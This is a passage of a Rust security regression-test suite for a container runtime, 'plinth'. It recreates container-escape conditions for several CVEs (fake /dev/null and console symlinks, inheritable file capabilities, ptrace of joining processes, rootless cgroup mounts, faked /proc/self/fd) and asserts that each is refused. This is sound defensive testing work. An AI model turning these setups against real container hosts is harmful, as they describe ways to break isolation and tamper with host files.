    let deadline = Instant::now() + Duration::from_secs(20);
    let (mut runs, mut ok) = (0, 0);
    while runs < 40 && Instant::now() < deadline {
        let (code, _, _) = b.run(&unique("race"));
        runs += 1;
        ok += (code == 0) as u32;
        assert_untouched(&host.0, &format!("run {runs}"));
    }
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    let swaps = swapper.join().unwrap();
    assert!(swaps > 1000, "the race barely ran ({swaps} swaps)");
    println!("{runs} containers raced against {swaps} swaps; {ok} started");
    assert_no_mounts(&b.tmp.0);
}

// ---------------------------------------------------------------------------------
// 5. maskedPaths through a fake /dev/null (CVE-2025-31133)

/// /dev comes from a host directory (a volume shared with an attacker) whose `null`
/// is `null_kind`; a scratch file at /fakeproc/core_pattern stands for core_pattern.
/// Returns (exit code, stderr) with the scratch files checked unchanged.
fn masked_paths_with_fake_null(null_kind: &str) -> (i32, String) {
    let devdir = TempDir::new("plinth-dev");
    let fake = TempDir::new("plinth-fakecore");
    std::fs::write(fake.0.join("core_pattern"), "ORIGINAL-core\n").unwrap();
    for d in ["pts", "shm", "mqueue"] {
        std::fs::create_dir(devdir.0.join(d)).unwrap();
    }
    std::os::unix::fs::symlink("pts/ptmx", devdir.0.join("ptmx")).unwrap();
    match null_kind {
        "symlink-scratch" => {
            std::os::unix::fs::symlink("/fakeproc/core_pattern", devdir.0.join("null")).unwrap()
        }
        "symlink-real" => {
            std::os::unix::fs::symlink("/proc/sys/kernel/core_pattern", devdir.0.join("null"))
                .unwrap()
        }
        "file" => std::fs::write(devdir.0.join("null"), "").unwrap(),
        "zero" => nix::sys::stat::mknod(
            &devdir.0.join("null"),
            nix::sys::stat::SFlag::S_IFCHR,
            nix::sys::stat::Mode::from_bits_truncate(0o666),
            nix::sys::stat::makedev(1, 5),
        )
        .unwrap(),
        _ => unreachable!(),
    }
    let real_core = std::fs::read_to_string("/proc/sys/kernel/core_pattern").unwrap();
    let dev_before = snapshot(&devdir.0);
    // Only the scratch variant tries to write through the masks; against the real
    // core_pattern the container only looks.
    let write = if null_kind == "symlink-real" {
        ""
    } else {
        "echo overwritten >> $f; "
    };
    let mut b = Bundle::busybox(&format!(
        "for f in /proc/kcore /proc/keys /proc/timer_list; do stat -c '%n %F %t:%T' $f; {write}done; true"
    ));
    remove_mount(&mut b, "/dev");
    let m = mounts_mut(&mut b);
    m.insert(1, json!({"destination": "/dev", "type": "bind", "source": devdir.0, "options": ["rbind", "rw"]}));
    m.push(json!({"destination": "/fakeproc", "type": "bind", "source": fake.0, "options": ["rbind", "rw"]}));
    let r = b.run(&unique("null"));
    assert_eq!(
        std::fs::read_to_string(fake.0.join("core_pattern")).unwrap(),
        "ORIGINAL-core\n",
        "{null_kind}: the stand-in for core_pattern was written through a masked path: {r:?}"
    );
    assert_eq!(
        std::fs::read_to_string("/proc/sys/kernel/core_pattern").unwrap(),
        real_core,
        "{null_kind}: the host's core_pattern changed"
    );
    assert_eq!(
        snapshot(&devdir.0),
        dev_before,
        "{null_kind}: the shared /dev changed"
    );
    assert!(mounts_under(&devdir.0).is_empty() && mounts_under(&fake.0).is_empty());
    (r.0, r.2)
}

#[test]
fn cve_2025_31133_masked_paths_through_a_fake_dev_null() {
    if !need_root("cve_2025_31133_masked_paths_through_a_fake_dev_null") {
        return;
    }
    for kind in ["symlink-scratch", "symlink-real", "file", "zero"] {
        let (code, err) = masked_paths_with_fake_null(kind);
        assert_ne!(code, 0, "{kind}: a fake /dev/null was accepted");
        assert!(err.contains("/dev/null"), "{kind}: unclear error: {err}");
    }
}

// ---------------------------------------------------------------------------------
// 6. /dev/console through a symlink (CVE-2025-52565) and a /dev symlink (CVE-2026-41579)

/// A terminal container whose /dev is a host directory holding `console` and `ptmx`
/// as given. Returns (create ok, pty output) after checking the scratch files.
fn console_with(console: Option<&str>, ptmx: &str, script: &str) -> (bool, String, TempDir) {
    let devdir = TempDir::new("plinth-cdev");
    let fake = TempDir::new("plinth-cfake");
    std::fs::write(fake.0.join("console"), "ORIGINAL-console\n").unwrap();
    std::fs::write(fake.0.join("ptmx"), "ORIGINAL-ptmx\n").unwrap();
    for d in ["pts", "shm", "mqueue"] {
        std::fs::create_dir(devdir.0.join(d)).unwrap();
    }
    std::fs::write(devdir.0.join("null"), "").unwrap();
    std::os::unix::fs::symlink(ptmx, devdir.0.join("ptmx")).unwrap();
    if let Some(c) = console {
        std::os::unix::fs::symlink(c, devdir.0.join("console")).unwrap();
    }
    let dev_before = snapshot(&devdir.0);
    let mut b = Bundle::busybox(script);
    b.config["process"]["terminal"] = json!(true);
    remove_mount(&mut b, "/dev");
    let m = mounts_mut(&mut b);
    m.insert(1, json!({"destination": "/dev", "type": "bind", "source": devdir.0, "options": ["rbind", "rw"]}));
    m.insert(2, json!({"destination": "/dev/null", "type": "bind", "source": "/dev/null", "options": ["bind"]}));
    m.push(json!({"destination": "/fakeproc", "type": "bind", "source": fake.0, "options": ["rbind", "rw"]}));
    b.write();
    let sock = b.tmp.0.join("console.sock");
    let listener = std::os::unix::net::UnixListener::bind(&sock).unwrap();
    listener.set_nonblocking(true).unwrap();
    let id = unique("console");
    let (code, _, err) = b.plinth_detached(&[
        "create",
        "--bundle",
        b.dir.to_str().unwrap(),
        "--console-socket",
        sock.to_str().unwrap(),
        &id,
    ]);
    let mut text = String::new();
    if code == 0 {
        let (conn, _) = listener.accept().unwrap();
        conn.set_nonblocking(false).unwrap();
        let master = plinth_tests::recv_pty_master(&conn);
        b.start(&id);
        text = plinth_tests::read_pty(master);
        let _ = b.plinth(&["delete", "--force", &id]);
    } else {
        text.push_str(&err);
    }
    assert_eq!(
        std::fs::read_to_string(fake.0.join("console")).unwrap(),
        "ORIGINAL-console\n",
        "the console's symlink target on the host was written: {text}"
    );
    assert_eq!(
        std::fs::read_to_string(fake.0.join("ptmx")).unwrap(),
        "ORIGINAL-ptmx\n",
        "the ptmx symlink target on the host was written: {text}"
    );
    // /dev/null was created as the bind target before; console may have been created
    // inside the shared /dev only when it did not exist.
    let mut after = snapshot(&devdir.0);
    after.retain(|l| !l.starts_with("console = "));
    let mut before = dev_before;
    before.retain(|l| !l.starts_with("console = "));
    assert_eq!(after, before, "the shared /dev changed");
    assert!(mounts_under(&devdir.0).is_empty() && mounts_under(&fake.0).is_empty());
    (code == 0, text, fake)
}

const CONSOLE_SCRIPT: &str = "stat -L -c 'console %F %t' /dev/console; echo written > /dev/console; \
    grep -E ' /(fakeproc|dev)/console ' /proc/self/mountinfo | cut -d' ' -f5 | sed 's/^/mount /'; true";

#[test]
fn cve_2025_52565_console_symlink_never_touches_the_host() {
    if !need_root("cve_2025_52565_console_symlink_never_touches_the_host") {
        return;
    }
    // /dev/console -> a host-backed file: the pty never lands on it, nothing is written.
    let _ = console_with(Some("/fakeproc/console"), "pts/ptmx", CONSOLE_SCRIPT);
    // /dev/ptmx -> a host-backed file: the runtime must not take it for the pty
    // multiplexer (it cannot TIOCGPTPEER a regular file) and must write nothing.
    let (ok, text, _) = console_with(None, "/fakeproc/ptmx", CONSOLE_SCRIPT);
    assert!(!ok, "a /dev/ptmx that is not devpts's was used: {text}");
}

#[test]
fn cve_2025_52565_console_is_mounted_on_dev_console_only() {
    if !need_root("cve_2025_52565_console_is_mounted_on_dev_console_only") {
        return;
    }
    // No /dev/console in the image: the pty is mounted on /dev/console itself.
    let (ok, text, _) = console_with(None, "pts/ptmx", CONSOLE_SCRIPT);
    assert!(ok, "a terminal container with a shared /dev: {text}");
    assert!(text.contains("console character special file 88"), "{text}");
    assert!(text.contains("mount /dev/console"), "{text}");
    // The image's /dev/console a symlink to a host-backed file: the pty still goes
    // on /dev/console and never where the link points, or create refuses by name.
    let (ok, text, _) = console_with(Some("/fakeproc/console"), "pts/ptmx", CONSOLE_SCRIPT);
    if ok {
        assert!(
            !text.contains("mount /fakeproc/console"),
            "the pty was mounted where the image's /dev/console symlink points: {text}"
        );
        assert!(text.contains("console character special file 88"), "{text}");
        assert!(text.contains("mount /dev/console"), "{text}");
    } else {
        assert!(
            text.contains("/dev/console"),
            "a refusal names /dev/console: {text}"
        );
    }
}

#[test]
fn cve_2026_41579_dev_symlink_in_the_image_never_touches_the_host() {
    if !need_root("cve_2026_41579_dev_symlink_in_the_image_never_touches_the_host") {
        return;
    }
    for (relative, own_dev) in [(false, true), (true, true), (false, false), (true, false)] {
        let host = TempDir::new("plinth-hostdev");
        std::fs::write(host.0.join("ptmx"), "ORIGINAL-ptmx\n").unwrap();
        std::fs::write(host.0.join("null"), "ORIGINAL-null\n").unwrap();
        let before = snapshot(&host.0);
        let mut b = Bundle::busybox("ls /dev; true");
        let dev = b.dir.join("rootfs/dev");
        std::fs::remove_dir_all(&dev).unwrap();
        let target = if relative {
            climbing(&host.0)
        } else {
            host.0.display().to_string()
        };
        std::os::unix::fs::symlink(&target, &dev).unwrap();
        if !own_dev {
            // No /dev tmpfs: the devices, the /dev symlinks and ptmx go into the image's /dev.
            remove_mount(&mut b, "/dev");
        }
        let (code, out, err) = b.run(&unique("devlink"));
        assert_eq!(
            snapshot(&host.0),
            before,
            "/dev -> {target} (own /dev: {own_dev}): the host directory changed; run: {code} {out} {err}"
        );
        assert_eq!(mounts_under(&host.0), Vec::<String>::new());
        assert_no_mounts(&b.tmp.0);
        // Either refused, naming /dev, or run with devices inside the rootfs.
        if code == 0 {
            assert!(
                out.lines().any(|l| l == "null"),
                "no /dev/null inside: {out}"
            );
        } else {
            assert!(err.contains("dev"), "the refusal names /dev: {err}");
        }
    }
}

// ---------------------------------------------------------------------------------
// 7. inheritable capabilities (CVE-2022-27650, CVE-2022-29162)

fn cap_line(out: &str, name: &str) -> u64 {
    let l = out
        .lines()
        .find(|l| l.starts_with(name))
        .unwrap_or_else(|| panic!("{name} not in {out}"));
    u64::from_str_radix(l.split_whitespace().last().unwrap(), 16).unwrap()
}

/// A busybox with file capabilities: `caps` inheritable and the effective bit, no
/// permitted ones. Exec'ing it gains a capability only if the process's inheritable
/// set holds it (pP' = pI & fI).
fn install_file_caps_busybox(b: &Bundle, caps: u32) {
    let p = b.dir.join("rootfs/bin/busybox-fcaps");
    std::fs::copy(b.dir.join("rootfs/bin/busybox"), &p).unwrap();
    let mut data = vec![];
    for w in [0x0200_0000u32 | 1, 0, caps, 0, 0] {
        data.extend_from_slice(&w.to_le_bytes());
    }
    let path = std::ffi::CString::new(p.to_str().unwrap()).unwrap();
    // SAFETY: setxattr reads the name, path and data buffers we own.
    let r = unsafe {
        libc::setxattr(
            path.as_ptr(),
            c"security.capability".as_ptr(),
            data.as_ptr().cast(),
            data.len(),
            0,
        )
    };
    assert_eq!(r, 0, "setxattr: {}", std::io::Error::last_os_error());
}

const CAP_NET_ADMIN: u32 = 12;
const CAP_NET_RAW: u32 = 13;

#[test]
fn cve_2022_29162_no_inheritable_capabilities_in_run_and_exec() {
    if !need_root("cve_2022_29162_no_inheritable_capabilities_in_run_and_exec") {
        return;
    }
    let script = "grep -E '^Cap(Inh|Prm|Amb)' /proc/self/status; \
                  /bin/busybox-fcaps grep -E '^Cap(Inh|Prm|Eff)' /proc/self/status | sed 's/^/fcaps /'";
    let mut b = Bundle::busybox(script);
    install_file_caps_busybox(&b, (1 << CAP_NET_ADMIN) | (1 << CAP_NET_RAW));
    // The attack needs no_new_privs off (it would ignore file capabilities).
    b.config["process"]["noNewPrivileges"] = json!(false);
    let (code, out, err) = b.run(&unique("inh"));
    assert_eq!(code, 0, "{err}");
    assert_eq!(cap_line(&out, "CapInh"), 0, "{out}");
    assert_eq!(cap_line(&out, "CapAmb"), 0, "{out}");

    // As a user: the file's inheritable bits must give nothing.
    b.config["process"]["user"] = json!({"uid": 1000, "gid": 1000});
    let (code, out, err) = b.run(&unique("inh"));
    assert_eq!(code, 0, "{err}");
    assert_eq!(cap_line(&out, "CapInh"), 0, "{out}");
    assert_eq!(
        cap_line(&out, "fcaps CapPrm"),
        0,
        "a file's inheritable caps were gained: {out}"
    );

    // exec, and exec --cap: the added capability never becomes inheritable.
    b.config["process"]["user"] = json!({"uid": 0, "gid": 0});
    b.config["process"]["args"] = json!(["sleep", "30"]);
    let id = unique("inhx");
    b.create(&id);
    b.start(&id);
    for extra in [&[][..], &["--cap", "CAP_NET_ADMIN"][..]] {
        for user in ["0", "1000"] {
            let mut args = vec!["exec", "--user", user];
            args.extend_from_slice(extra);
            args.extend_from_slice(&[&id, "sh", "-c", script]);
            let (code, out, err) = b.plinth_detached(&args);
            assert_eq!(code, 0, "exec {args:?}: {err}");
            assert_eq!(cap_line(&out, "CapInh"), 0, "exec {args:?}: {out}");
            assert_eq!(cap_line(&out, "CapAmb"), 0, "exec {args:?}: {out}");
            if user == "1000" {
                assert_eq!(
                    cap_line(&out, "fcaps CapPrm"),
                    0,
                    "exec {args:?} gained file caps: {out}"
                );
            } else if !extra.is_empty() {
                assert_ne!(
                    cap_line(&out, "CapPrm") & (1 << CAP_NET_ADMIN),
                    0,
                    "--cap ignored: {out}"
                );
            }
        }
    }
    let _ = b.plinth(&["delete", "--force", &id]);
}

// ---------------------------------------------------------------------------------
// 8. ptrace of the process that joins the container (CVE-2016-9962)

/// The exec'd process is held inside the container before its execve (the runtime
/// waits to hand its seccomp listener to an agent the test answers late) while the
/// container's pid 1 tries to ptrace it and open its exe and fds.
#[test]
fn cve_2016_9962_exec_process_cannot_be_ptraced_before_execve() {
    let name = "cve_2016_9962_exec_process_cannot_be_ptraced_before_execve";
    if !need_root(name) {
        return;
    }
    let mut b = Bundle::busybox("true");
    if !install_attacker(&b, name) {
        return;
    }
    let agent = Agent::new(&mut b);
    b.config["process"]["args"] = json!(["/bin/attack", "ptrace", "20"]);
    let id = unique("ptrace");
    let out = create_logged(&plinth_bin(), &b, &id);
    assert_eq!(agent.take(1), 1, "the init never handed its listener over");
    start_attacker(&b, &id, &out);
    let filler = agent.hold();
    let exec = b
        .cmd()
        .args(["exec", &id, "true"])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let _ = wait_for(&out, "pid ", 5);
    std::thread::sleep(Duration::from_millis(300));
    let text = std::fs::read_to_string(&out).unwrap_or_default();
    agent.release(filler);
    let eo = exec.wait_with_output().unwrap();
    let _ = b.plinth(&["delete", "--force", &id]);
    let reports: Vec<&str> = text.lines().filter(|l| l.starts_with("pid ")).collect();
    assert!(
        !reports.is_empty(),
        "the attacker never saw the exec'd process before its execve: {text} / exec: {eo:?}"
    );
    for r in &reports {
        assert!(
            !r.contains("ATTACHED"),
            "the container ptraced the runtime's process: {r}"
        );
        assert!(
            !r.contains("exe=OPENED"),
            "the container opened the runtime's exe: {r}"
        );
        assert!(
            r.contains(" opened=0 "),
            "the container opened the runtime's fds: {r}"
        );
    }
    assert!(eo.status.success(), "exec after the hold: {eo:?}");
}

// ---------------------------------------------------------------------------------
// 9. rootless: every cgroup mount read-only (CVE-2023-25809)

/// Runs `sh -c script` rootless as `nobody` (65534) with a single-id mapping.
fn run_rootless(b: &mut Bundle, script: &str) -> (i32, String, String) {
    const NOBODY: u32 = 65534;
    let xdg = b.tmp.0.join("xdg");
    std::fs::create_dir_all(&xdg).unwrap();
    std::os::unix::fs::chown(&xdg, Some(NOBODY), Some(NOBODY)).unwrap();
    std::fs::set_permissions(&b.tmp.0, std::fs::Permissions::from_mode(0o755)).unwrap();
    // The image belongs to the user, as it would after a rootless pull.
    let st = Command::new("chown")
        .args(["-R", "65534:65534"])
        .arg(b.dir.join("rootfs"))
        .status()
        .unwrap();
    assert!(st.success());
    b.config["process"]["args"] = json!(["sh", "-c", script]);
    let ns = b.config["linux"]["namespaces"].as_array_mut().unwrap();
    if !ns.iter().any(|n| n["type"] == "user") {
        ns.push(json!({"type": "user"}));
    }
    b.config["linux"]["uidMappings"] = json!([{"containerID": 0, "hostID": NOBODY, "size": 1}]);
    b.config["linux"]["gidMappings"] = json!([{"containerID": 0, "hostID": NOBODY, "size": 1}]);
    for m in mounts_mut(b) {
        if let Some(o) = m["options"].as_array_mut() {
            o.retain(|x| x != "gid=5");
        }
    }
    if let Some(l) = b.config["linux"].as_object_mut() {
        l.remove("resources");
    }
    b.write();
    let out = Command::new("setpriv")
        .args([
            "--reuid",
            "65534",
            "--regid",
            "65534",
            "--clear-groups",
            "--",
        ])
        .arg(plinth_bin())
        .args(["run", "--bundle"])
        .arg(&b.dir)
        .arg(unique("rootless"))
        .env("XDG_RUNTIME_DIR", &xdg)
        .env("HOME", &xdg)
        .current_dir(&b.tmp.0)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    text(&out)
}

#[test]
fn cve_2023_25809_rootless_cgroup_mounts_are_read_only() {
    if !need_root("cve_2023_25809_rootless_cgroup_mounts_are_read_only") {
        return;
    }
    let script = "grep ' /sys/fs/cgroup' /proc/self/mountinfo; \
                  touch /sys/fs/cgroup/escape-probe 2>/dev/null && echo WROTE-tmpfs; true";
    for (cgns, rw) in [(true, false), (false, false), (true, true), (false, true)] {
        let mut b = Bundle::busybox("true");
        if !cgns {
            b.config["linux"]["namespaces"]
                .as_array_mut()
                .unwrap()
                .retain(|n| n["type"] != "cgroup");
        }
        if rw {
            // The config asks for a writable cgroup mount: rootless must not give it.
            for m in mounts_mut(&mut b) {
                if m["type"] == "cgroup" {
                    m["options"] = json!(["nosuid", "noexec", "nodev", "relatime", "rw"]);
                }
            }
        }
        let (code, out, err) = run_rootless(&mut b, script);
        assert_eq!(code, 0, "rootless run (cgroupns {cgns}, rw {rw}): {err}");
        let lines: Vec<&str> = out
            .lines()
            .filter(|l| l.contains(" /sys/fs/cgroup"))
            .collect();
        assert!(!lines.is_empty(), "no cgroup mount at all: {out}");
        for l in &lines {
            let opts = l.split(' ').nth(5).unwrap_or("");
            assert!(
                opts.split(',').any(|o| o == "ro"),
                "cgroupns {cgns}, rw asked {rw}: a writable cgroup mount in a rootless container: {l}"
            );
        }
        assert!(!out.contains("WROTE"), "{out}");
    }
}

// ---------------------------------------------------------------------------------
// 10. exec --user 1 (CVE-2026-30892)

#[test]
fn cve_2026_30892_exec_user_1_runs_as_uid_1() {
    if !need_root("cve_2026_30892_exec_user_1_runs_as_uid_1") {
        return;
    }
    let b = Bundle::busybox("sleep 30");
    std::fs::write(b.dir.join("rootfs/root/secret"), "root-only\n").unwrap();
    std::fs::set_permissions(
        b.dir.join("rootfs/root/secret"),
        std::fs::Permissions::from_mode(0o600),
    )
    .unwrap();
    std::fs::set_permissions(
        b.dir.join("rootfs/root"),
        std::fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    let id = unique("user1");
    b.create(&id);
    b.start(&id);
    let probe =
        "id -u; id -g; grep -E '^Cap(Prm|Eff)' /proc/self/status; cat /root/secret 2>&1; true";
    let (code, out, err) = b.plinth_detached(&["exec", "--user", "1", &id, "sh", "-c", probe]);
    assert_eq!(code, 0, "{err}");
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(
        lines.first().copied(),
        Some("1"),
        "exec --user 1 ran as {out:?}"
    );
    assert_eq!(lines.get(1).copied(), Some("0"), "{out:?}");
    assert_eq!(
        cap_line(&out, "CapPrm"),
        0,
        "uid 1 kept capabilities: {out}"
    );
    assert_eq!(
        cap_line(&out, "CapEff"),
        0,
        "uid 1 kept capabilities: {out}"
    );
    assert!(
        !out.contains("root-only"),
        "uid 1 read a root-only file: {out}"
    );

    let (code, out, err) = b.plinth_detached(&["exec", "--user", "1:2", &id, "sh", "-c", probe]);
    assert_eq!(code, 0, "{err}");
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(&lines[..2], ["1", "2"], "{out:?}");
    assert!(!out.contains("root-only"), "{out}");
    let _ = b.plinth(&["delete", "--force", &id]);
}

// ---------------------------------------------------------------------------------
// 11. the create path joining a pod's namespaces (CVE-2016-9962, create side)

/// Gives the bundle's process CAP_SYS_PTRACE in every set it lists (within its own user
/// namespace, as a "privileged in a user namespace" pod has it).
fn grant_ptrace(b: &mut Bundle) {
    for set in ["bounding", "effective", "permitted"] {
        b.config["process"]["capabilities"][set]
            .as_array_mut()
            .unwrap()
            .push(json!("CAP_SYS_PTRACE"));
    }
}

/// Gives everything below `dir` to host uid and gid `id` (a user namespace's root).
fn chown_tree(dir: &Path, id: u32) {
    let out = Command::new("chown")
        .arg("-hR")
        .arg(format!("{id}:{id}"))
        .arg(dir)
        .output()
        .unwrap();
    assert!(out.status.success(), "chown: {out:?}");
}

/// The host pid of the process (other than this one) that holds `path` open.
fn holder_of(path: &Path) -> Option<i32> {
    let me = std::process::id() as i32;
    for e in std::fs::read_dir("/proc").ok()?.flatten() {
        let Ok(pid) = e.file_name().to_string_lossy().parse::<i32>() else {
            continue;
        };
        if pid == me {
            continue;
        }
        let Ok(fds) = std::fs::read_dir(e.path().join("fd")) else {
            continue;
        };
        if fds
            .flatten()
            .any(|f| std::fs::read_link(f.path()).ok().as_deref() == Some(path))
        {
            return Some(pid);
        }
    }
    None
}

/// The pid of host process `pid` in its innermost pid namespace (NSpid's last field).
fn inner_pid(pid: i32) -> i32 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    let line = status.lines().find(|l| l.starts_with("NSpid:")).unwrap();
    line.split_whitespace().last().unwrap().parse().unwrap()
}

/// A pod: a sandbox container with its own user namespace (container root is host uid
/// 100000), pid and mount namespaces, whose processes hold CAP_SYS_PTRACE inside that
/// user namespace. A second container joins the sandbox's user and pid namespaces by
/// path, and its init is held (the runtime's test-only pause point) right after it has
/// forked into the joined pid namespace: the first moment the pod can see it. From
/// inside the sandbox, root then tries the init's /proc/<pid>/root, cwd and fd: the
/// kernel must refuse each (EACCES), as the init is not dumpable.
#[test]
fn cve_2016_9962_create_joining_a_pods_namespaces_is_not_dumpable() {
    let name = "cve_2016_9962_create_joining_a_pods_namespaces_is_not_dumpable";
    if !need_root(name) {
        return;
    }
    let mut sandbox = Bundle::busybox("sleep 1000");
    grant_ptrace(&mut sandbox);
    sandbox.config["linux"]["namespaces"]
        .as_array_mut()
        .unwrap()
        .push(json!({"type": "user"}));
    let map = json!([{"containerID": 0, "hostID": 100000, "size": 65536}]);
    sandbox.config["linux"]["uidMappings"] = map.clone();
    sandbox.config["linux"]["gidMappings"] = map;
    // No cgroup namespace or mount: the sandbox only needs /proc to look from.
    remove_mount(&mut sandbox, "/sys/fs/cgroup");
    std::fs::set_permissions(&sandbox.tmp.0, std::fs::Permissions::from_mode(0o755)).unwrap();
    chown_tree(&sandbox.dir.join("rootfs"), 100000);
    let pod = unique("pod");
    sandbox.create(&pod);
    sandbox.start(&pod);
    let pod_pid = sandbox.state(&pod)["pid"].as_i64().unwrap();

    let mut joiner = Bundle::busybox("true");
    joiner.config["linux"]["namespaces"] = json!([
        {"type": "user", "path": format!("/proc/{pod_pid}/ns/user")},
        {"type": "pid", "path": format!("/proc/{pod_pid}/ns/pid")},
        {"type": "mount"}, {"type": "ipc"}, {"type": "uts"}, {"type": "network"},
    ]);
    remove_mount(&mut joiner, "/sys/fs/cgroup");
    std::fs::set_permissions(&joiner.tmp.0, std::fs::Permissions::from_mode(0o755)).unwrap();
    chown_tree(&joiner.dir.join("rootfs"), 100000);
    joiner.write();
    let fifo = joiner.tmp.0.join("hold.fifo");
    nix::unistd::mkfifo(&fifo, nix::sys::stat::Mode::from_bits_truncate(0o600)).unwrap();
    let id = unique("joiner");
    let log = joiner.tmp.0.join("joiner.err");
    let mut create = joiner
        .cmd()
        .env("PLINTH_TEST_HOLD_AFTER_JOIN", &fifo)
        .args(["create", "--bundle"])
        .arg(&joiner.dir)
        .arg(&id)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(std::fs::File::create(&log).unwrap())
        .spawn()
        .unwrap();

    // The init has reached the pause point once it has the fifo open for reading.
    let deadline = Instant::now() + Duration::from_secs(10);
    let writer = loop {
        match nix::fcntl::open(
            &fifo,
            nix::fcntl::OFlag::O_WRONLY | nix::fcntl::OFlag::O_NONBLOCK,
            nix::sys::stat::Mode::empty(),
        ) {
            Ok(fd) => break fd,
            Err(nix::errno::Errno::ENXIO) if Instant::now() < deadline => {
                std::thread::sleep(Duration::from_millis(5))
            }
            Err(e) => panic!(
                "the init never reached the pause point ({e}): {}",
                std::fs::read_to_string(&log).unwrap_or_default()
            ),
        }
    };
    // The reader counts as one as soon as its open() starts waiting for a writer, so
    // the writer's open succeeds before the reader's fd is in its table: look again
    // until it is.
    let host_pid = loop {
        match holder_of(&fifo) {
            Some(pid) => break pid,
            None if Instant::now() < deadline => std::thread::sleep(Duration::from_millis(5)),
            None => panic!("no process holds {} open", fifo.display()),
        }
    };
    let n = inner_pid(host_pid);
    assert_ne!(
        n, host_pid,
        "the held init is not in the pod's pid namespace"
    );
    let look = format!(
        "echo \"root sees: $(ls /proc/{n}/root/ 2>/dev/null | head -4 | tr '\\n' ' ')\"; \
         for f in root cwd fd; do ls /proc/{n}/$f/ >/dev/null 2>/dev/shm/err; echo \"$f rc=$? $(cat /dev/shm/err)\"; done; \
         for f in /proc/{n}/fd/*; do cat $f >/dev/null 2>/dev/shm/err; echo \"fdfile rc=$? $(cat /dev/shm/err)\"; done"
    );
    let seen = sandbox.plinth(&["exec", &pod, "sh", "-c", &look]);
    drop(writer);
    let _ = create.wait();
    let _ = joiner.plinth(&["delete", "--force", &id]);
    let _ = sandbox.plinth(&["delete", "--force", &pod]);
    let (code, out, err) = text(&seen);
    assert_eq!(code, 0, "exec in the pod: {err}");
    for what in ["root", "cwd", "fd"] {
        let line = out
            .lines()
            .find(|l| l.starts_with(&format!("{what} rc=")))
            .unwrap_or_else(|| panic!("no {what} line: {out}"));
        assert!(
            line.contains("rc=1") && line.contains("Permission denied"),
            "the pod reached the init's /proc/{n}/{what} while it joined (it must get EACCES): {line}\n{out}"
        );
    }
    for line in out.lines().filter(|l| l.starts_with("fdfile ")) {
        assert!(
            line.contains("Permission denied") || line.contains("No such file"),
            "the pod opened one of the init's fds: {line}\n{out}"
        );
    }
}

// ---------------------------------------------------------------------------------
// 12. masks, read-only paths and the console never go through the image's /proc

/// Ships `proc/self/fd/0..63` in the image as plain directories. With no /proc mount in
/// the config, a runtime that reaches its mount targets through `/proc/self/fd/N` after
/// the pivot reaches these instead.
fn fake_proc_self_fd(b: &Bundle) {
    for i in 0..64 {
        std::fs::create_dir_all(b.dir.join(format!("rootfs/proc/self/fd/{i}"))).unwrap();
    }
}

#[test]
fn masked_paths_never_go_through_the_images_proc() {
    if !need_root("masked_paths_never_go_through_the_images_proc") {
        return;
    }
    let mut b = Bundle::busybox(
        "echo firmware entries $(ls -A /sys/firmware | wc -l); echo secret \"$(cat /secret.txt)\"",
    );
    fake_proc_self_fd(&b);
    std::fs::write(b.dir.join("rootfs/secret.txt"), "SECRET").unwrap();
    remove_mount(&mut b, "/proc");
    remove_mount(&mut b, "/sys/fs/cgroup");
    b.config["linux"]["maskedPaths"]
        .as_array_mut()
        .unwrap()
        .push(json!("/secret.txt"));
    assert!(
        std::fs::read_dir("/sys/firmware").unwrap().count() > 0,
        "this host's /sys/firmware is empty: the mask would not show"
    );
    let (code, out, err) = b.run(&unique("fakefd"));
    assert_eq!(code, 0, "{out}{err}");
    assert!(
        out.contains("firmware entries 0\n"),
        "the masked /sys/firmware is readable: {out}"
    );
    assert!(
        out.contains("secret \n"),
        "the masked /secret.txt is readable: {out}"
    );
    assert_no_mounts(&b.tmp.0);
}

#[test]
fn readonly_paths_never_go_through_the_images_proc() {
    if !need_root("readonly_paths_never_go_through_the_images_proc") {
        return;
    }
    let mut b = Bundle::busybox("touch /ro/x 2>/dev/null; echo ro rc=$?");
    fake_proc_self_fd(&b);
    std::fs::create_dir(b.dir.join("rootfs/ro")).unwrap();
    remove_mount(&mut b, "/proc");
    remove_mount(&mut b, "/sys/fs/cgroup");
    b.config["linux"]["readonlyPaths"]
        .as_array_mut()
        .unwrap()
        .push(json!("/ro"));
    let (code, out, err) = b.run(&unique("fakefdro"));
    assert_eq!(code, 0, "{out}{err}");
    assert!(
        out.contains("ro rc=1\n"),
        "the read-only /ro is writable: {out}"
    );
    assert!(!b.dir.join("rootfs/ro/x").exists());
    assert_no_mounts(&b.tmp.0);
}

#[test]
fn the_console_never_goes_through_the_images_proc() {
    if !need_root("the_console_never_goes_through_the_images_proc") {
        return;
    }
    let mut b = Bundle::busybox("stat -c 'console %F %t' /dev/console");
    fake_proc_self_fd(&b);
    remove_mount(&mut b, "/proc");
    remove_mount(&mut b, "/sys/fs/cgroup");
    b.config["process"]["terminal"] = json!(true);
    b.write();
    let sock = b.tmp.0.join("console.sock");
    let listener = std::os::unix::net::UnixListener::bind(&sock).unwrap();
    listener.set_nonblocking(true).unwrap();
    let id = unique("fakefdcon");
    let (code, _, err) = b.plinth_detached(&[
        "create",
        "--bundle",
        b.dir.to_str().unwrap(),
        "--console-socket",
        sock.to_str().unwrap(),
        &id,
    ]);
    assert_eq!(code, 0, "create: {err}");
    let (conn, _) = listener.accept().unwrap();
    conn.set_nonblocking(false).unwrap();
    let master = plinth_tests::recv_pty_master(&conn);
    b.start(&id);
    let text = plinth_tests::read_pty(master);
    let _ = b.plinth(&["delete", "--force", &id]);
    assert!(
        text.contains("console character special file 88"),
        "/dev/console is not the pty: {text}"
    );
    assert_no_mounts(&b.tmp.0);
}

// ---------------------------------------------------------------------------------
// 13. --pid-file's temporary file and a planted symlink

/// The pid file's directory is shared with someone else, who plants symlinks at the
/// names the temporary file could take. plinth runs as pid 1 of a pid namespace of its
/// own, so that a name derived from its pid is known in advance (`.NAME.tmp1`); the
/// symlinks point at a file of the test's. It must stay untouched, and the pid file must
/// be a regular file holding the init's pid.
#[test]
fn pid_file_never_follows_a_planted_symlink() {
    if !need_root("pid_file_never_follows_a_planted_symlink") {
        return;
    }
